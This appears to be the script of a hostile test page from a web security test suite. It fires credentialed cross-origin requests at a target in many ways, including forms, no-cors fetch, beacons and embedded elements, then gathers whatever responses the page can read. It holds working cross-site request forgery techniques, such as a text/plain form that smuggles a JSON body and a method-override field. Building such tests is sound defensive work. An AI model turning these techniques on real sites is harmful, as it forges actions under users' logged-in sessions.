// The script of a hostile page. The browser runs it, not Node, hence no TypeScript. `perform` sends requests in one
// way; `harvest` waits for the browser's results and returns everything that the page could see.

const seen = []
const pending = []
const elements = []
const windows = []
let names = 0

const look = (text) => {
  if (text) seen.push(String(text))
}

const settle = (element) =>
  pending.push(
    new Promise((resolve) => {
      element.onload = resolve
      element.onerror = resolve
    }),
  )

const make = (tag, attributes = {}) => {
  const element = Object.assign(document.createElement(tag), attributes)
  elements.push(element)
  return element
}

const show = (element) => {
  settle(element)
  document.body.append(element)
}

const submit = (request, enctype, fields, target) => {
  const form = make('form', { action: request.url, method: 'post', enctype, target })
  for (const [name, value] of Object.entries(fields)) form.append(make('input', { type: 'hidden', name, value }))
  document.body.append(form)
  form.submit()
}

/** The response to the form appears in a frame of the page. A new frame first loads an empty document. */
const submitToFrame = (request, enctype, fields) => {
  const frame = make('iframe', { name: `frame-${names++}` })
  document.body.append(frame)
  settle(frame)
  submit(request, enctype, fields, frame.name)
}

const submitToWindow = (request, enctype, fields) => {
  const name = `window-${names++}`
  windows.push(window.open('', name))
  submit(request, enctype, fields, name)
}

/**
 * The request that a form without JSON can express: the fields, and the method override that some frameworks accept.
 */
const plainFields = ({ method, body }) => ({
  _method: method,
  ...Object.fromEntries(
    Object.entries(body).map(([name, value]) => [name, typeof value === 'string' ? value : JSON.stringify(value)]),
  ),
})

/** A form of the type text/plain writes `name=value`: an equals sign inside the JSON makes that valid JSON. */
const textFields = ({ body }) => {
  const text = JSON.stringify(body)
  const at = text.indexOf('=')
  if (at >= 0) return { [text.slice(0, at)]: text.slice(at + 1) }
  return { [`${text.slice(0, -1)}${text === '{}' ? '' : ','}"x":"`]: '"}' }
}

const ask = (request, options) =>
  pending.push(
    fetch(request.url, { method: request.method, credentials: 'include', ...options }).then(
      async (response) => look(`${response.status || ''}${await response.text()}`),
      () => undefined,
    ),
  )

const askInTheOldWay = (request, type) =>
  pending.push(
    new Promise((resolve) => {
      const old = new XMLHttpRequest()
      old.open(request.method, request.url)
      old.withCredentials = true
      if (type && request.body) old.setRequestHeader('content-type', type)
      old.onloadend = () => {
        look(old.status || '')
        look(old.responseText)
        resolve()
      }
      old.send(request.body && JSON.stringify(request.body))
    }),
  )

const listen = (request) =>
  pending.push(
    new Promise((resolve) => {
      const source = new EventSource(request.url, { withCredentials: true })
      source.onopen = () => look('open')
      source.onmessage = ({ data }) => look(data)
      source.onerror = () => {
        source.close()
        resolve()
      }
    }),
  )

const jsonType = 'application/json'
const blobOf = ({ body }, type) => new Blob([JSON.stringify(body)], { type })
const jsonOf = ({ body }) => (body ? { headers: { 'content-type': jsonType }, body: JSON.stringify(body) } : {})

const ways = {
  form: (request) => submitToFrame(request, 'application/x-www-form-urlencoded', plainFields(request)),
  'form with parts': (request) => submitToFrame(request, 'multipart/form-data', plainFields(request)),
  'form of text': (request) => submitToFrame(request, 'text/plain', textFields(request)),
  'form in a window': (request) => submitToWindow(request, 'text/plain', textFields(request)),
  'no-cors fetch': (request) => ask(request, { mode: 'no-cors', body: JSON.stringify(request.body) }),
  'no-cors fetch of nothing': (request) => ask(request, { mode: 'no-cors' }),
  'no-cors fetch of a blob': (request) => ask(request, { mode: 'no-cors', body: blobOf(request, jsonType) }),
  'no-cors fetch kept alive': (request) =>
    ask(request, { mode: 'no-cors', keepalive: true, body: JSON.stringify(request.body) }),
  'fetch of text': (request) => ask(request, { body: JSON.stringify(request.body) }),
  'xhr of text': (request) => askInTheOldWay(request, 'text/plain'),
  beacon: (request) => navigator.sendBeacon(request.url, JSON.stringify(request.body)),
  'beacon of JSON': (request) => navigator.sendBeacon(request.url, blobOf(request, jsonType)),
  'fetch of JSON': (request) => ask(request, jsonOf(request)),
  'fetch of JSON kept alive': (request) => ask(request, { ...jsonOf(request), keepalive: true }),
  'xhr of JSON': (request) => askInTheOldWay(request, jsonType),
  image: ({ url }) => show(make('img', { src: url })),
  script: ({ url }) => show(make('script', { src: url })),
  'style sheet': ({ url }) => show(make('link', { rel: 'stylesheet', href: url })),
  frame: ({ url }) => show(make('iframe', { src: url })),
  window: ({ url }) => windows.push(window.open(url, `window-${names++}`)),
  'event source': (request) => listen(request),
}

// A script error of another origin is reported with these two words only, without details.
window.addEventListener('error', ({ message }) => look(message === 'Script error.' ? '' : message))

const peek = (read) => {
  try {
    look(read())
  } catch {
    // Documents of another origin are not accessible.
  }
}

globalThis.attacker = {
  perform: (way, requests) => {
    for (const request of requests) ways[way](request)
  },
  harvest: async () => {
    await Promise.all(pending.splice(0))
    for (const shown of windows.splice(0)) {
      peek(() => shown.document.body.textContent)
      shown.close()
    }
    for (const element of elements.splice(0)) {
      peek(() => element.contentDocument?.body.textContent)
      peek(() => element.sheet && [...element.sheet.cssRules].map(({ cssText }) => cssText).join(''))
      element.remove()
    }
    return seen.splice(0)
  },
}
